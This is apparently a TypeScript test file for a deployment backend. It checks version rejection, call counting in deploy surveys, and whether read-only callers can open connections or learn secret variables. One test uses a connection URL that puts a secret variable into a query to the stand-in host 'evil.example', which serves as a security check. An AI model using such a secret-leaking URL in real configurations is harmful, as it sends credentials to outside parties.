import assert from 'node:assert/strict'
import { after, before, test } from 'node:test'
import { definePlugin } from '../../src/contract/index.ts'
import { loadDatabaseTime, recordStatistics } from '../../src/operate/index.ts'
import { activateRelease } from '../../src/release/index.ts'
import { makeGreeting, openDeployers, type Deployers } from './deployers.ts'

const survey = 'POST /backend/deploy/survey'

/** A class that records the addresses with which it is opened, and whose connection always fails. */
function makeSpy() {
  const opened: string[] = []
  const plugin = definePlugin({
    name: 'spy',
    requires: '*',
    connections: {
      spy: {
        description: 'Notes what it is opened with',
        config: { type: 'object', properties: { url: { type: 'string' } } },
        clientType: 'unknown',
        migrations: 'sqlite',
        async open({ url }: { url: string }) {
          opened.push(url)
          throw new Error('down')
        },
      },
    },
  })
  return { opened, plugin }
}

const { opened, plugin } = makeSpy()
const variables = { LEDGER: 'a-word-that-stays-here' }
let world: Deployers
before(async () => {
  world = await openDeployers('sqlite', { plugins: [plugin], variables })
})
after(() => world.close())

test('a release of a newer Waypost is rejected, with a hint', async () => {
  const { manifest } = makeGreeting('hello', { waypost: '99.1.0' })
  for (const [call, line] of [
    [world.plan, survey],
    [world.deploy, 'POST /backend/deploy'],
  ] as const) {
    const { status, body } = await call(line, { protocol: 2, manifest })
    assert.deepEqual([status, body.type], [409, 'urn:waypost:errors#WP_BACKEND_OLDER'], line)
    assert.match(body.hint, /Update the servers first/)
  }
})

test('a survey of another release counts the calls of what it breaks in the last 24 hours', async () => {
  const { manifest, artifacts } = makeGreeting('hello')
  await activateRelease(world.system, { manifest, artifacts }, { by: 'test' })
  const counted = {
    route: 'GET /greet',
    statuses: [7, 0, 0, 0],
    sumMs: 7,
    buckets: [7, ...Array<number>(12).fill(0)],
  }
  await recordStatistics(world.system, [counted], await loadDatabaseTime(world.system))
  const other = await world.deploy(survey, { protocol: 2, manifest: makeGreeting('hello', { routes: [] }).manifest })
  const callsOf = ({ body }: typeof other) =>
    body.changes.flatMap(({ name, calls }: { readonly name: string; readonly calls?: number }) =>
      calls === undefined ? [] : [[name, calls]],
    )
  assert.deepEqual(callsOf(other), [['GET /greet', 7]], other.text)
  const same = await world.deploy(survey, { protocol: 2, manifest })
  assert.deepEqual(same.body.changes, [])
})

// Last: it activates a release whose connection fails.
test('callers with backend.read only cannot open connections that are not in the active release, or learn of variables', async () => {
  const { manifest, artifacts } = makeGreeting('hello')
  const release = {
    manifest: {
      ...manifest,
      connections: { Ledger: { class: 'spy', config: { url: 'https://evil.example/?${env.LEDGER}' } } },
      variables: { LEDGER: { optional: false } },
      migrations: [
        { connection: 'Ledger', name: '1-first', checksum: 'a'.repeat(64), artifact: artifacts[0]!.hash },
        { connection: 'System', name: '1-first', checksum: 'b'.repeat(64), artifact: artifacts[0]!.hash },
      ],
    },
    artifacts,
  }
  const json = { protocol: 2, manifest: release.manifest }
  const looked = await world.plan(survey, json)
  assert.equal(looked.status, 200, looked.text)
  assert.deepEqual(looked.body.pendingMigrations, ['System/1-first', 'Ledger/1-first'])
  assert.ok(!looked.text.includes(variables.LEDGER))
  assert.deepEqual(opened, [])

  await world.deploy(survey, json)
  assert.deepEqual([...new Set(opened)], ['https://evil.example/?a-word-that-stays-here'], 'who deploys may have it')
  opened.length = 0
  await activateRelease(world.system, release, { by: 'ann' })
  await world.plan(survey, json)
  assert.ok(opened.length > 0, 'it is one of the active release now')
})
